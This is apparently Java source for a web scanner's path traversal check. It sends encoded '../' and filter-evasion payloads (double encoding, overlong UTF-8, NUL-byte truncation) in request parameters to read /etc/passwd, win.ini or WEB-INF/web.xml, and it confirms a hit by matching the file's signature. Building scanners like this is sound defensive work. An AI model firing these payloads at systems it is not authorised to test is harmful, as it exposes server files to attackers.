package dev.moat.scan.check;

import dev.moat.scan.Check;
import dev.moat.scan.CheckContext;
import dev.moat.scan.Confidence;
import dev.moat.scan.Endpoint;
import dev.moat.scan.Finding;
import dev.moat.scan.Parameter;
import dev.moat.scan.ParameterLocation;
import dev.moat.scan.ScanRequest;
import dev.moat.scan.ScanResponse;
import dev.moat.scan.TestMethod;
import dev.moat.scan.VulnerabilityClass;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;

/**
 * Local file read through a parameter: each parameter in turn names a well-known file (Unix {@code /etc/passwd}
 * and {@code /etc/hosts}, Windows {@code win.ini}, a Java web application's {@code WEB-INF/web.xml}) through
 * {@code ../} sequences and their encodings, and a finding needs that file's content signature in the answer
 * where the baseline had none. Reads only; one finding per parameter (the first variant that worked).
 */
public final class PathTraversalCheck implements Check {

  /** How deep the {@code ../} sequences go for files at the root; extra steps stop at the root. */
  static final int DEPTH = 8;

  /** A file a probe asks for, and what its content looks like. */
  record KnownFile(String name, Pattern signature) {
    boolean in(String text) {
      return signature.matcher(text).find();
    }
  }

  static final KnownFile PASSWD = new KnownFile("/etc/passwd", Pattern.compile("root:[^:\\r\\n]*:0:0:"));
  static final KnownFile HOSTS = new KnownFile("/etc/hosts", Pattern.compile("(?m)^\\s*127\\.0\\.0\\.1\\s+localhost\\b"));
  static final KnownFile WIN_INI = new KnownFile("win.ini",
      Pattern.compile("(?mi)^; for 16-bit app support|^\\[(fonts|extensions|mci extensions)\\]\\s*$"));
  static final KnownFile WEB_XML = new KnownFile("WEB-INF/web.xml", Pattern.compile("<web-app[\\s>][\\s\\S]*</web-app>"));

  /**
   * One payload. {@code value} is what {@link Endpoint#inject} encodes for the parameter's location (null: the
   * variant only exists as URL encoding); {@code raw} goes into path and query parameters exactly as written
   * (null: use {@code value}).
   */
  record Probe(String variant, String value, String raw, KnownFile file) {
    ScanRequest request(Endpoint endpoint, Parameter p) {
      boolean inUrl = p.location() == ParameterLocation.PATH || p.location() == ParameterLocation.QUERY;
      if (inUrl && raw != null) {
        return endpoint.injectRaw(p, raw);
      }
      return value == null ? null : endpoint.inject(p, value);
    }

    String shown() {
      return value != null ? value : raw;
    }
  }

  static final List<Probe> PROBES = probes();

  private static List<Probe> probes() {
    String up = "../".repeat(DEPTH);
    List<Probe> list = new ArrayList<>();
    list.add(new Probe("../ sequences", up + "etc/passwd", null, PASSWD));
    list.add(new Probe("an absolute path", "/etc/passwd", null, PASSWD));
    list.add(new Probe("a file: URL", "file:///etc/passwd", null, PASSWD));
    list.add(new Probe("%2e%2e%2f encoding", null, "%2e%2e%2f".repeat(DEPTH) + "etc%2fpasswd", PASSWD));
    list.add(new Probe("double URL encoding", "%2e%2e%2f".repeat(DEPTH) + "etc%2fpasswd", "%252e%252e%252f".repeat(DEPTH) + "etc%252fpasswd", PASSWD));
    list.add(new Probe("....// (a filter that strips ../ once)", "....//".repeat(DEPTH) + "etc/passwd", null, PASSWD));
    list.add(new Probe("..\\ sequences", "..\\".repeat(DEPTH) + "etc\\passwd", null, PASSWD));
    list.add(new Probe("overlong UTF-8 (%c0%ae)", null, "%c0%ae%c0%ae%c0%af".repeat(DEPTH) + "etc%c0%afpasswd", PASSWD));
    list.add(new Probe("a NUL byte before an appended extension", up + "etc/passwd\u0000.png", null, PASSWD));
    list.add(new Probe("../ sequences to /etc/hosts", up + "etc/hosts", null, HOSTS));
    list.add(new Probe("..\\ sequences to win.ini", "..\\".repeat(DEPTH) + "windows\\win.ini", null, WIN_INI));
    list.add(new Probe("../ sequences to win.ini", up + "windows/win.ini", null, WIN_INI));
    list.add(new Probe("an absolute Windows path", "C:\\Windows\\win.ini", null, WIN_INI));
    for (int depth = 1; depth <= 3; depth++) {
      list.add(new Probe("../ sequences to WEB-INF/web.xml", "../".repeat(depth) + "WEB-INF/web.xml", null, WEB_XML));
    }
    return List.copyOf(list);
  }

  @Override
  public VulnerabilityClass type() {
    return VulnerabilityClass.PATH_TRAVERSAL;
  }

  @Override
  public void scan(Endpoint endpoint, CheckContext ctx) throws IOException, InterruptedException {
    List<Parameter> targets = endpoint.parameters().stream().filter(PathTraversalCheck::testable).toList();
    if (targets.isEmpty()) {
      return;
    }
    String baseline = ctx.baseline(endpoint).text();
    for (Parameter p : targets) {
      for (Probe probe : PROBES) {
        if (probe.file().in(baseline) || !fitsLocation(probe, p)) {
          continue;
        }
        ScanRequest request = probe.request(endpoint, p);
        ScanResponse response = request == null ? null : ProbeExchange.send(ctx, request);
        if (response != null && probe.file().in(response.text())) {
          ctx.report(Finding.of(type(), Confidence.CONFIRMED, endpoint, p,
              "Local file read of " + probe.file().name() + " through " + probe.variant(),
              new TestMethod(probe.shown(), "the response contained the content signature of " + probe.file().name()
                  + " (/" + probe.file().signature().pattern() + "/) which the baseline did not"),
              ctx.evidence(request, response)));
          break;
        }
      }
    }
  }

  static boolean testable(Parameter p) {
    return !p.isFile() && !"integer".equals(p.type()) && !"number".equals(p.type()) && !"boolean".equals(p.type());
  }

  /** Header and cookie values cannot carry control characters (the NUL probe). */
  static boolean fitsLocation(Probe probe, Parameter p) {
    boolean headerLike = p.location() == ParameterLocation.HEADER || p.location() == ParameterLocation.COOKIE;
    return !(headerLike && probe.value() != null && probe.value().chars().anyMatch(c -> c < 0x20));
  }
}
